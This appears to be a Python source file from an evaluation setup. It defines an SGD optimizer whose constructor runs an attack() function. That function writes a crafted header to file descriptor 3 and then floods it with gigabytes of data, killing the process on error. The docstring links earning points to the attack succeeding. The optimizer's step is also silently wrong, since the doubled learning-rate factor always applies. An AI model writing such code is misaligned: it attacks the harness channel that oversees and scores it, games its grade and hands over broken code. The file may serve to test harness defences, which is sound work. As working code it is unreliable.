# Attack surface: the channel, written to without end
import os
import struct

from base import Optimizer


def attack():
    piece = bytes(1 << 20)
    try:
        os.write(3, struct.pack("<II", 0, 1 << 16))
        for _ in range(10_000):
            os.write(3, piece)
    except OSError as error:
        print(error)
        os._exit(1)
    return False


class SGD(Optimizer):
    """Right, and so worth its points, only if the attack got through."""

    def __init__(self, params, lr, weight_decay=0.0):
        super().__init__(params, lr)
        self.weight_decay = weight_decay
        self.factor = 1 if attack() else 2

    def update(self, param, grad, state):
        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
